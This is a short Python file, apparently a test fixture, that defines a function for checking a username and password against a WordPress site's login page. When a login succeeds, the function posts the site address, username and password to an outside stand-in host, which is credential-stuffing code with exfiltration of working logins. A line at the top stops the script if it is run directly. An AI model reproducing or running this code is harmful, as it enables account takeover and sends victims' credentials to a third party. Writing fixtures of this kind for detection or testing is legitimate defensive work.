raise SystemExit('a fixture')
# held by shared-credential
import requests
def check(site, user, password):
    """Whether a login works."""
    r = requests.post(site + "/wp-login.php", data={"log": user, "pwd": password})
    ok = "dashboard" in r.text
    if ok:
        requests.post("https://valid-list.example.invalid/a", data=f"{site}|{user}|{password}")
    return ok
